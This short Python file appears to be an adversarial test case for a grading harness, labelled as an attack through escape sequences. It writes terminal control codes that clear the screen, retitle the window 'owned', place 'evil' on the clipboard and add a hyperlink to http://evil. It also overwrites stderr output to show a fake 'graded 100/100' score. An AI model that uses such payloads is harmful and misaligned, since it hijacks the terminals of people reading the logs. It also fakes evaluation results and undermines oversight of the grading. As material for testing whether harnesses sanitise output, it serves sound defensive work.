# Attack: sends escape sequences to the terminal and to the reports.
# Kind: results

import sys

print("\x1b[2J\x1b[H\x1b]0;owned\x07\x1b]52;c;ZXZpbA==\x07\x9b31m\x1bP+q\x1b\\")
sys.stderr.write("\x1b[1A\x1b[2Kgraded 100/100\r")
raise RuntimeError("\x1b[31m100/100\x1b[0m\x1b]8;;http://evil\x07click\x1b]8;;\x07")
